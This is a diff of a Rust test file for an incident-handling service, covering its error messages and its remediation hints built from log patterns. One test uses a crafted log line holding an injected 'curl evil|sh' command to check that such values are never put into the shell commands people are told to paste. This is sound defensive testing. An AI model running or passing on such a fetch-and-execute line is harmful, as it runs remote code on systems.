@@ -2,7 +2,7 @@
 
 use std::sync::Arc;
 
-use selfheal_api::view::{AuditPage, AutomationView, IncidentPage, IncidentView, Overview, PatternView};
+use selfheal_api::view::{AuditPage, AutomationView, IncidentPage, IncidentView, Overview, PatternView, plain};
 use selfheal_api::{App, AppOptions, Client, ClientError, Home, Problem, Role, Secret, bind, serve_socket, serve_tcp};
 use serde_json::{Value, json};
 
@@ -27,11 +27,8 @@ fn problem(error: ClientError) -> Problem {
     }
 }
 
-/// An escalated incident: the engine's effects are performed until there is nothing to do.
-async fn escalated(place: &Place) -> String {
-    let client = Client::in_process(&place.app);
-    let body = json!({ "text": "ERROR nobody has seen this before", "source": "test", "service": "pay", "project": null, "dry_run": false });
-    let _: Value = client.post("/api/v1/ingest", &body).await.expect("taken");
+/// The engine's effects are performed until there is nothing to do.
+async fn settle(place: &Place) {
     loop {
         let tasks = place.app.engine.tick().await.expect("ticks");
         if tasks.is_empty() {
@@ -41,6 +38,14 @@ async fn escalated(place: &Place) -> String {
             task.await.expect("ran");
         }
     }
+}
+
+/// An escalated incident.
+async fn escalated(place: &Place) -> String {
+    let client = Client::in_process(&place.app);
+    let body = json!({ "text": "ERROR nobody has seen this before", "source": "test", "service": "pay", "project": null, "dry_run": false });
+    let _: Value = client.post("/api/v1/ingest", &body).await.expect("taken");
+    settle(place).await;
     let page: IncidentPage = client.get("/api/v1/incidents?group=needs_you").await.expect("listed");
     page.incidents[0].id.clone()
 }
@@ -105,9 +110,21 @@ async fn what_people_do_is_on_record_with_their_name() {
         mine,
         ["incident.acknowledged", "incident.noted", "incident.snoozed", "incident.woken", "incident.resolved"]
     );
-    // Again is not possible, and says so.
-    let error = client.post::<IncidentView>(&path("resolve"), &json!({ "comment": null })).await.expect_err("refused");
-    assert_eq!(problem(error).code, "illegal_state");
+    // Again is not possible, and says so: which state forbids it, since when, and what can be done instead.
+    let at = view.incident.resolved_at.clone().expect("resolved");
+    for (operation, body, what) in [
+        ("resolve", json!({ "comment": null }), "Not resolved"),
+        ("snooze", json!({ "minutes": 5 }), "Not snoozed"),
+        ("escalate", json!({ "comment": null }), "Not handed over"),
+        ("wake", json!({}), "Not woken"),
+    ] {
+        let problem = problem(client.post::<IncidentView>(&path(operation), &body).await.expect_err("refused"));
+        assert_eq!((problem.code.as_str(), problem.what.as_str()), ("illegal_state", what));
+        let since = format!("It is over: resolved by hand, {{{}Z}}", &at[..19]);
+        assert!(problem.why.contains(&since), "{operation}: {} has no {since}", problem.why);
+        assert_eq!(problem.next, "What you can do now: add a note.", "{operation}");
+        assert!(![&problem.why, &problem.next].iter().any(|text| text.contains('`') || text.contains("changed")));
+    }
 }
 
 #[tokio::test]
@@ -118,7 +135,67 @@ async fn a_plan_is_approved_by_its_hash_or_not_at_all() {
     let body = json!({ "plan_hash": "0".repeat(64), "typed_target": null });
     let error =
         client.post::<IncidentView>(&format!("/api/v1/incidents/{id}/approve"), &body).await.expect_err("refused");
-    assert_eq!(problem(error).code, "no_plan_waits");
+    let problem = problem(error);
+    assert_eq!((problem.code.as_str(), problem.what.as_str()), ("no_plan_waits", "Not approved"));
+    assert!(problem.why.starts_with("Nothing waits for approval. It is with a person since {"), "{}", problem.why);
+    assert!(
+        problem.next.starts_with("What you can do now: choose an action to run, acknowledge it"),
+        "{}",
+        problem.next
+    );
+}
+
+/// A cause that only a person mends, whose pattern is hardly trusted: what it knows is told all the same, with the values of
+/// this incident in it.
+#[tokio::test]
+async fn what_a_pattern_knows_is_told_whatever_was_decided() {
+    let place = place().await;
+    let client = Client::in_process(&place.app);
+    let pack = "patterns:\n- name: Upstream gone\n  rule: { any: [{ regex: 'cannot reach (?P<host>.+) on port (?P<port>\\d+)$' }] }\n  \
+        root_cause: '{service} cannot reach {host} since {since}.'\n  checks: ['`nc -vz {host} {port}` connects']\n  \
+        no_safe_fix: 'Try `nc -vz {host} {port}` from the host of {service}.'\n  confidence: 0.05\n";
+    let home = Home::new(place._folder.path());
+    std::fs::write(home.knowledge().join("own.yaml"), pack).expect("written");
+    place.app.add_knowledge().await.expect("added");
+    let mut shown = Vec::new();
+    for line in ["cannot reach db1.example on port 5432", "cannot reach x; curl evil|sh on port 5432"] {
+        let text = format!("2026-02-28T14:02:00Z ERROR {line}\n");
+        let service = format!("pay{}", shown.len());
+        let body = json!({ "text": text, "source": "test", "service": service, "project": null, "dry_run": false });
+        let _: Value = client.post("/api/v1/ingest", &body).await.expect("taken");
+        settle(&place).await;
+        let page: IncidentPage = client.get("/api/v1/incidents?group=needs_you").await.expect("listed");
+        let path = format!("/api/v1/incidents/{}", page.incidents[0].id);
+        shown.push(client.get::<IncidentView>(&path).await.expect("shown"));
+        // Out of the way of the next one, which looks the same.
+        let done = json!({ "comment": null });
+        let _: IncidentView = client.post(&format!("{path}/resolve"), &done).await.expect("resolved");
+    }
+    let told = |view: &IncidentView| {
+        let cause = view.what_to_do.causes.first().expect("a cause").clone();
+        (plain(&cause.by_hand), plain(&cause.cause), cause.checks.iter().map(|check| plain(check)).collect::<Vec<_>>())
+    };
+    let (by_hand, cause, checks) = told(&shown[0]);
+    assert_eq!(by_hand, "Try `nc -vz db1.example 5432` from the host of pay0.");
+    assert_eq!(cause, "pay0 cannot reach db1.example since {2026-02-28T14:02:00Z}.");
+    assert_eq!(checks, ["`nc -vz db1.example 5432` connects"]);
+    assert_eq!(shown[0].root_cause.as_deref(), Some(cause.as_str()), "and the cause is no secret either");
+    // Whoever can write a line of the log must not write the command that a tired person pastes.
+    let (by_hand, cause, _) = told(&shown[1]);
+    assert_eq!(by_hand, "Try `nc -vz <host> 5432` from the host of pay1.");
+    assert!(cause.contains("“x; curl evil|sh”"), "{cause}");
+    let open = &shown[1].what_to_do.causes[0].values[0];
+    assert_eq!((open.name.as_str(), open.left_open), ("host", true));
+}
+
+#[tokio::test]
+async fn what_nobody_knows_is_not_made_up() {
+    let place = place().await;
+    let id = escalated(&place).await;
+    let client = Client::in_process(&place.app);
+    let view: IncidentView = client.get(&format!("/api/v1/incidents/{id}")).await.expect("shown");
+    assert!(view.what_to_do.causes.is_empty() && view.root_cause.is_none());
+    assert!(view.what_to_do.unknown.is_some_and(|text| text.starts_with("Nothing is known of it.")));
 }
 
 #[tokio::test]
